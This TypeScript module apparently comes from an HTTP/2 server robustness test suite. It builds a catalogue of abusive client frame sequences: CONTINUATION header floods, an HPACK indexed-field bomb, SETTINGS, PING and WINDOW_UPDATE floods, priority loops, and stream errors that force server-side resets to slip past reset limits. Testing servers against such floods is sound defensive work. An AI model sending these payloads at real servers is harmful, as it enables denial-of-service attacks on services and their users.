/** Frames that cost a server more than their sender. */

import {
  FLAG,
  FRAME,
  makeFrame,
  makeHeaderBlock,
  makeIndexedLiteral,
  makeSettings,
  makeWords,
  SETTING,
} from "./http2-frames.ts";
import { makeCallBody, makeCallFields, makeCallHeaders } from "./raw-call.ts";
import { ATTACKER_KEY } from "./start-target.ts";

/** Streams of one turn. */
const STREAM_COUNT = 50;
const MAX_WINDOW = 2 ** 31 - 1;

export interface Flood {
  /** Completes the sentence "a client that ...". */
  readonly does: string;
  /** The first SETTINGS frame. Default one without values. */
  readonly settings?: Buffer;
  /** Whether it takes what comes. Default true. */
  readonly reads?: boolean;
  /** What is sent once on each connection. */
  readonly beginning?: Buffer;
  /** What is sent again and again on a connection; `turn` counts from 0. */
  readonly piece: (turn: number) => Buffer;
}

function repeat(frame: Buffer, count = 1_000): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => frame));
}

/** The frames that `make` makes for each of a turn's new streams. */
function onStreams(make: (streamId: number) => readonly Buffer[]): (turn: number) => Buffer {
  return (turn) =>
    Buffer.concat(Array.from({ length: STREAM_COUNT }, (_, at) => make((turn * STREAM_COUNT + at) * 2 + 1)).flat());
}

/** A call with a key that has begun, and whose body is still to come. */
const begins = (streamId: number): Buffer => makeCallHeaders(streamId, makeCallFields(ATTACKER_KEY));
/** A whole call with a key. */
const calls = (streamId: number): readonly Buffer[] => [begins(streamId), makeCallBody(streamId, "quick")];
const updatesWindow = (streamId: number, increment: number): Buffer =>
  makeFrame(FRAME.windowUpdate, 0, streamId, makeWords(increment));
const setsWindow = (bytes: number): Buffer => makeSettings([SETTING.initialWindowSize, bytes]);
const depends = (streamId: number, on: number): Buffer =>
  makeFrame(FRAME.priority, 0, streamId, Buffer.concat([makeWords(on), Buffer.from([255])]));

const openHeaders = makeFrame(FRAME.headers, 0, 1, makeHeaderBlock(makeCallFields()));
const moreFields = makeHeaderBlock([["x-more", "a".repeat(1_000)]]);

const endlessHeads: readonly Flood[] = [
  {
    does: "never ends a header",
    beginning: openHeaders,
    piece: () => repeat(makeFrame(FRAME.continuation, 0, 1, moreFields), 50),
  },
  {
    does: "goes on with a header by nothing",
    beginning: openHeaders,
    piece: () => repeat(makeFrame(FRAME.continuation, 0, 1)),
  },
  {
    does: "sends headers over the limit",
    piece: onStreams((streamId) => [
      makeFrame(FRAME.headers, FLAG.endStream, streamId, makeHeaderBlock(makeCallFields())),
      ...Array.from({ length: 8 }, () => makeFrame(FRAME.continuation, 0, streamId, moreFields)),
      makeFrame(FRAME.continuation, FLAG.endHeaders, streamId, repeat(moreFields, 10)),
    ]),
  },
  {
    // 62 is the first index of what the sender has put into the table.
    does: "refers to a large field ten thousand times",
    beginning: makeFrame(
      FRAME.headers,
      FLAG.endHeaders | FLAG.endStream,
      1,
      Buffer.concat([makeHeaderBlock(makeCallFields()), makeIndexedLiteral("x-bomb", "b".repeat(3_500))]),
    ),
    piece: onStreams((streamId) => [
      makeFrame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId + 2, Buffer.alloc(10_000, 0x80 | 62)),
    ]),
  },
];

const controlFloods: readonly Flood[] = [
  { does: "sends nothing but settings", piece: () => repeat(makeSettings()) },
  { does: "sends settings and never reads", reads: false, piece: () => repeat(makeSettings()) },
  { does: "sends nothing but pings", piece: () => repeat(makeFrame(FRAME.ping, 0, 0, Buffer.alloc(8))) },
  {
    does: "sends pings and never reads",
    reads: false,
    piece: () => repeat(makeFrame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  },
  { does: "opens the connection's window byte by byte", piece: () => repeat(updatesWindow(0, 1)) },
  { does: "opens the connection's window by nothing", piece: () => updatesWindow(0, 0) },
  { does: "opens the connection's window too far", piece: () => repeat(updatesWindow(0, MAX_WINDOW), 2) },
  { does: "sends frames of no known type", piece: () => repeat(makeFrame(0xfa, 0xff, 0, Buffer.alloc(8))) },
  {
    does: "makes streams depend on each other",
    piece: (turn) =>
      Buffer.concat(Array.from({ length: 500 }, (_, at) => depends(((turn * 500 + at) % 100_000) * 2 + 3, at * 2 + 1))),
  },
  {
    does: "changes the window of a hundred calls again and again",
    beginning: Buffer.concat(Array.from({ length: 100 }, (_, at) => begins(at * 2 + 1))),
    piece: () => repeat(Buffer.concat([setsWindow(0), setsWindow(65_535)]), 50),
  },
];

const streamFloods: readonly Flood[] = [
  { does: "sends a body of empty frames", beginning: begins(1), piece: () => repeat(makeFrame(FRAME.data, 0, 1)) },
  {
    does: "sends a body of padding",
    beginning: begins(1),
    piece: () =>
      repeat(makeFrame(FRAME.data, FLAG.padded, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)])), 100),
  },
  { does: "calls without a window to answer in", settings: setsWindow(0), piece: onStreams(calls) },
  { does: "calls and never reads", reads: false, piece: onStreams(calls) },
];

/** What makes a server reset streams that it has begun to serve, which no limit on the client's own resets counts. */
const madeResets: readonly Flood[] = [
  { does: "opens a stream's window by nothing", piece: onStreams((id) => [begins(id), updatesWindow(id, 0)]) },
  { does: "opens a called stream's window by nothing", piece: onStreams((id) => [...calls(id), updatesWindow(id, 0)]) },
  {
    does: "opens a stream's window too far",
    piece: onStreams((id) => [begins(id), updatesWindow(id, MAX_WINDOW), updatesWindow(id, MAX_WINDOW)]),
  },
  {
    does: "sends a body behind its end",
    piece: onStreams((id) => [...calls(id), makeFrame(FRAME.data, 0, id, Buffer.alloc(8))]),
  },
  { does: "makes a stream depend on itself", piece: onStreams((id) => [...calls(id), depends(id, id)]) },
  {
    does: "sends a priority of three bytes",
    piece: onStreams((id) => [...calls(id), makeFrame(FRAME.priority, 0, id, Buffer.alloc(3))]),
  },
  {
    does: "sends a second header in a call",
    piece: onStreams((id) => [begins(id), makeCallHeaders(id, makeCallFields())]),
  },
];

export const floods: readonly Flood[] = [...endlessHeads, ...controlFloods, ...streamFloods, ...madeResets];
